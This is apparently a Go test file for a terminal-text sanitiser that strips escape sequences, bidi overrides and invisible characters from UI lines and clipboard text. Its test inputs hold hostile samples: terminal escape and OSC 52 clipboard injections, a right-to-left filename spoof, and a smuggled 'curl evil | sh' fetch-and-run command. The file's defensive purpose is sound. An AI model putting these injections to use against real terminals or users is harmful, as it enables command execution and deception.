package termtext

import (
	"errors"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"github.com/charmbracelet/x/ansi"

	"github.com/gapdeck/gapdeck/ui/termtext/termtexttest"
)

func TestLine(t *testing.T) {
	for in, want := range map[string]Safe{
		"plain":                      "plain",
		"\x1b]0;pwn\x07":             "^[]0;pwn^G",
		"\x1b[2J":                    "^[[2J",
		"a\r\nb\tc":                  "a  b c",
		"del\x7f":                    "del^?",
		"\xff\xfe":                   "??",
		"\u0085x":                    " x",
		"é\u009b":                    "é?",
		"\u202eevil":                 "<U+202E>evil",
		"👨\u200d👩\u200d👧 crew":       "👨 crew",
		"❤\ufe0f":                    "❤",
		"🇫🇷":                         "\uFFFD",
		"a\u200bb":                   "ab",
		"Zürich 東京 e\u0301":          "Zürich 東京 e\u0301",
		"\U000e0067tag":              "tag",
		"\u202e\u0301":               "<U+202E>\u0301",
		"x\u2028y\u2029z":            "x y z",
		"keycap #\ufe0f\u20e3":       "keycap #",
		"\x1bPtmux;\x1b\x1b]0;x\x07": "^[Ptmux;^[^[]0;x^G",
	} {
		if got := Line(in); got != want {
			t.Errorf("Line(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestLineAllocs(t *testing.T) {
	for _, s := range []string{"plain ascii text", "Zürich 東京 🎮"} {
		if n := testing.AllocsPerRun(100, func() { _ = Line(s) }); n != 0 {
			t.Errorf("Line(%q) allocates %v times", s, n)
		}
	}
}

func TestFormat(t *testing.T) {
	got := Format("copied %s %q (%d) %v: %v", "\x1b]52;c;eA==\x07x", "a\nb", 42, errors.New("bad\u202e"), Safe("ok"))
	want := Safe(`copied ^[]52;c;eA==^Gx "a b" (42) bad<U+202E>: ok`)
	if got != want {
		t.Errorf("Format = %q, want %q", got, want)
	}
	if err := Check(string(got)); err != nil {
		t.Error(err)
	}
}

func TestClipboard(t *testing.T) {
	for _, tt := range []struct {
		in, want string
		changed  bool
		err      error
	}{
		{"https://host.example:31337/join", "https://host.example:31337/join", false, nil},
		{"host.example\n; curl evil | sh\r", "host.example; curl evil | sh", true, nil},
		{"\x1b]52;c;ZXZpbA==\x07host\x1b[2J", "host", true, nil},
		{"\u202etxt.exe\u2066", "txt.exe", true, nil},
		{"a\x9b2Jb\u0085c", "abc", true, nil},
		{"👨\u200d👩 x", "👨 x", true, nil},
		{"\r\n\t\x1b[2J", "", true, ErrNothingToCopy},
		{"", "", false, ErrNothingToCopy},
	} {
		got, changed, err := Clipboard(tt.in)
		if got != tt.want || changed != tt.changed || !errors.Is(err, tt.err) {
			t.Errorf("Clipboard(%q) = %q, %v, %v; want %q, %v, %v", tt.in, got, changed, err, tt.want, tt.changed, tt.err)
		}
	}
}

func TestCheck(t *testing.T) {
	for _, bad := range []string{"\x1b]0;x\x07", "\x1b[2J", "a\rb", "\u202e", "\u009b", "\xff", "\u200d", "\x1b[31", "\x1b"} {
		if Check(bad) == nil {
			t.Errorf("Check(%q) = nil", bad)
		}
	}
	for _, good := range []string{"", "a\nb", "\x1b[31mred\x1b[0m", "\x1b[38:2::1:2:3m", "東京 🎮"} {
		if err := Check(good); err != nil {
			t.Errorf("Check(%q) = %v", good, err)
		}
	}
}

// checkLine asserts Line's guarantees on out = Line(in).
func checkLine(t *testing.T, in string, out Safe) {
	t.Helper()
	s := string(out)
	if !utf8.ValidString(s) {
		t.Fatalf("Line(%q) = %q: invalid UTF-8", in, s)
	}
	if strings.ContainsAny(s, "\x1b\n") {
		t.Fatalf("Line(%q) = %q: ESC or LF", in, s)
	}
	if err := Check(s); err != nil {
		t.Fatalf("Line(%q) = %q: %v", in, s, err)
	}
	if w, rw := ansi.StringWidth(s), runeWidths(s); w != rw {
		t.Fatalf("Line(%q) = %q: %d cells for the UI, %d for a terminal", in, s, w, rw)
	}
	if again := Line(s); again != out {
		t.Fatalf("Line is not idempotent on %q: %q → %q", in, s, again)
	}
}

func TestLineHostile(t *testing.T) {
	for _, h := range append(termtexttest.Hostile, termtexttest.Long(5000)) {
		checkLine(t, h, Line(h))
	}
}

func FuzzLine(f *testing.F) {
	for _, h := range termtexttest.Hostile {
		f.Add(h)
	}
	f.Fuzz(func(t *testing.T, in string) {
		checkLine(t, in, Line(in))
		clean, _, err := Clipboard(in)
		if err == nil {
			if strings.ContainsFunc(clean, func(r rune) bool { return r < 0x20 || r == 0x7f || r >= 0x80 && r < 0xa0 || isBidi(r) || invisible(r) }) {
				t.Fatalf("Clipboard(%q) = %q: a control is left", in, clean)
			}
		}
	})
}

// TestPlainRangesAgree: every code point normalize skips measures the same
// for the UI and for a terminal, and is not a format character or mark.
func TestPlainRangesAgree(t *testing.T) {
	for i, rg := range plainRanges {
		if i > 0 && rg[0] <= plainRanges[i-1][1] {
			t.Fatalf("plainRanges not sorted at %U", rg[0])
		}
		for r := rg[0]; r <= rg[1]; r++ {
			s := string(r)
			if !utf8.ValidRune(r) || invisible(r) || isBidi(r) || unicode.In(r, unicode.M) {
				t.Fatalf("%U in plainRanges is not plain", r)
			}
			if w, rw := ansi.StringWidth(s), runeWidths(s); w != rw {
				t.Fatalf("%U: %d cells for the UI, %d for a terminal", r, w, rw)
			}
		}
	}
}
